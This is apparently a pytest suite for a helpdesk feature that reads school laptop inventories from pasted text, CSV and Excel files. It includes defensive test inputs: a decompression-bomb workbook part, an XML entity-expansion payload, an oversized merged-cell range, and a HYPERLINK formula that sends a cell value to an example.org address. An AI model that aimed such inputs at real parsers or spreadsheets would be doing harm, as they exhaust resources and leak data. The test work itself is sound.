"""Sheets as schools send them: what is read, what is guessed, and a sentence for each that cannot be taken."""

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from helpdesk.errors import Invalid
from helpdesk.texts.sheets.table import Table
from helpdesk.texts.sheets.text import decode, read_text
from helpdesk.texts.sheets.workbook import is_workbook, read_workbook
from tickets.devices.sheets.drafts import Draft, read_drafts
from tickets.devices.sheets.mapping import guess_mapping


def workbook(*rows: list[Any], change: Any = None) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    if change:
        change(sheet)
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def types(text: str) -> int | None:
    return 7 if "laptop" in text.casefold() else None


def drafts(table: Table) -> list[Draft]:
    found = guess_mapping(table)
    return read_drafts(table, found.heads, found.columns, types)


MESSY = (
    "\t\t\t\nInventaris leenlaptops De Wilg 2026\t\t\t\n\n"
    "Nr.\tSerienummer \tInventaris-nr\tKlas/groep\tSoort apparaat\tNaam leerling\n"
    "1\t PF3X0001\tALM-001\t5b\tLaptop\tSanne\n"
    "2\tPF3X0002\tALM-002\tGroep 6\tLaptop\t\n"
    "\t\t\t\t\t\n"
    "3\tpf3x0001\tALM-003\t5b\tLaptop\t\n"
    "4\t1,23457E+11\tALM-004\t5b\tLaptop\t\n"
    "5\tPF3X0005\tALM-005\tJan Jansen\tPhone\t\n"
)


def test_a_messy_paste_is_read_below_its_title_with_what_is_wrong_in_each_row() -> None:
    table = read_text(MESSY)
    found = guess_mapping(table)
    assert found.columns == {"serial": 1, "asset_tag": 2, "for_class": 3, "type": 4}
    assert any("Naam leerling" in note and "kinderen" in note for note in found.notes)
    rows = drafts(table)
    assert [(row.serial, row.asset_tag, row.for_class) for row in rows[:2]] == [
        ("PF3X0001", "ALM-001", "5b"),
        ("PF3X0002", "ALM-002", "Groep 6"),
    ]
    assert [len(row.errors) for row in rows] == [0, 0, 1, 1, 1]
    assert [row.row for row in rows] == [5, 6, 8, 9, 10]
    assert str(rows[0].row) in rows[2].errors[0]
    assert "1,23457E+11" in rows[3].errors[0]
    assert "Jan Jansen" in rows[4].errors[0]
    assert "Phone" in rows[4].warnings[0]


@pytest.mark.parametrize("delimiter", ["\t", ";", ","])
def test_csv_of_any_program_is_read(delimiter: str) -> None:
    lines = [["Serial number", "Asset tag", "Class"], ["A1", "T 1", "5b"], ["A2", "T 2", "6"]]
    rows = drafts(read_text("\r\n".join(delimiter.join(line) for line in lines)))
    assert [(row.serial, row.asset_tag, row.for_class) for row in rows] == [("A1", "T 1", "5b"), ("A2", "T 2", "6")]


def test_one_serial_number_a_line_needs_no_heads() -> None:
    assert [row.serial for row in drafts(read_text("PF1\nPF2\n\n PF3 \n"))] == ["PF1", "PF2", "PF3"]


def test_two_rows_of_heads_are_told() -> None:
    table = read_text("Serienummer\tKlas\nSerial\tClass\nA1\t5b\n")
    found = guess_mapping(table)
    assert (found.heads, len(found.notes)) == (2, 1)
    assert [row.serial for row in drafts(table)] == ["A1"]


def test_an_unknown_column_is_told_and_left_out() -> None:
    found = guess_mapping(read_text("Serienummer\tGarantie tot\nA1\t2027\n"))
    assert found.columns == {"serial": 0}
    assert "Garantie tot" in found.notes[0]


def test_zeros_that_a_spreadsheet_dropped_are_asked_about() -> None:
    rows = drafts(read_text("serienummer\n00412345\n00412346\n12412347\n412348\n"))
    assert [bool(row.warnings) for row in rows] == [False, False, False, True]
    assert "00412348" in rows[3].warnings[0]


def test_a_workbook_keeps_texts_and_shown_zeros_and_says_what_it_cannot_know() -> None:
    def shown(sheet: Any) -> None:
        sheet["A4"].number_format = "00000000"
        sheet["A6"] = '=HYPERLINK("http://example.org/?"&A2,"A9")'

    content = workbook(
        ["Serienummer", "Klas"], ["00012345", "5b"], [412345, "5b"], [412346, 6], [12345678901234567890, "5b"],
        ["", "5b"], change=shown,
    )  # fmt: skip
    rows = drafts(read_workbook(content))
    assert [row.serial for row in rows] == ["00012345", "412345", "00412346", "", ""]
    assert rows[2].for_class == "6"
    assert "15 cijfers" in rows[3].errors[0]
    assert "formule" in rows[4].errors[0]


def test_merged_cells_are_told_row_by_row() -> None:
    content = workbook(
        ["Serienummer", "Klas"], ["A1", "5b"], ["A2", None], change=lambda sheet: sheet.merge_cells("B2:B3")
    )
    rows = drafts(read_workbook(content))
    assert [len(row.errors) for row in rows] == [0, 1]
    assert "samengevoegd" in rows[1].errors[0]


def refusal(content: bytes) -> Invalid:
    with pytest.raises(Invalid) as caught:
        read_workbook(content)
    return caught.value


def test_a_password_an_old_format_and_a_broken_file_each_get_a_sentence() -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    whole = workbook(["Serienummer"], ["A1"])
    assert refusal(ole + "EncryptedPackage".encode("utf-16-le")).field_code == "encrypted"
    assert refusal(ole).field_code == "old"
    assert refusal(whole[: len(whole) // 2]).field_code == "broken"
    assert refusal(b"PK\x03\x04" + b"\x00" * 100).field_code == "broken"
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert refusal(empty.getvalue()).field_code == "broken"
    assert all(is_workbook(content) for content in (ole, whole))


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """The workbook with one part replaced."""
    changed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, part if info.filename == name else old.read(info.filename))
        if name not in old.namelist():
            new.writestr(name, part)
    return changed.getvalue()


def test_a_bomb_is_not_unpacked() -> None:
    whole = workbook(["Serienummer"], ["A1"])
    assert refusal(with_part(whole, "xl/media/a.bin", b"\x00" * 61_000_000)).field_code == "too_large"


def test_entities_are_refused() -> None:
    sheet = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        b'<c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'
    )
    whole = workbook(["Serienummer"], ["A1"])
    assert refusal(with_part(whole, "xl/worksheets/sheet1.xml", sheet)).field_code == "broken"


def test_merged_cells_without_end_are_refused() -> None:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        b'<c r="A1" t="inlineStr"><is><t>Serienummer</t></is></c></row></sheetData>'
        b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    )
    whole = workbook(["Serienummer"], ["A1"])
    assert refusal(with_part(whole, "xl/worksheets/sheet1.xml", sheet)).field_code == "too_large"


def test_too_many_rows_are_refused_in_text_and_workbook() -> None:
    with pytest.raises(Invalid) as caught:
        read_text("\n".join(f"A{number}" for number in range(10_100)))
    assert caught.value.field_code == "too_many"
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    for number in range(10_100):
        sheet.append([f"A{number}"])
    content = io.BytesIO()
    book.save(content)
    assert refusal(content.getvalue()).field_code == "too_many"


@pytest.mark.parametrize(
    ("content", "text", "notes"),
    [
        ("Groep é".encode(), "Groep é", 0),
        ("\ufeffGroep é".encode(), "Groep é", 0),
        ("Groep é".encode("utf-16"), "Groep é", 0),
        ("Groep é".encode("cp1252"), "Groep é", 1),
    ],
)
def test_files_in_any_encoding_of_an_office_are_read(content: bytes, text: str, notes: int) -> None:
    read, said = decode(content)
    assert (read, len(said)) == (text, notes)


@pytest.mark.parametrize("content", [b"\x00\x01\x02", b"\x81\x8d\x8f\x90", b"MZ\x90\x00"])
def test_what_is_no_text_is_refused(content: bytes) -> None:
    with pytest.raises(Invalid) as caught:
        decode(content)
    assert caught.value.field_code == "not_text"


def test_what_looks_like_a_formula_in_text_is_only_text() -> None:
    [row] = drafts(read_text("serienummer\n=1+1\n"))
    assert row.serial == "=1+1"
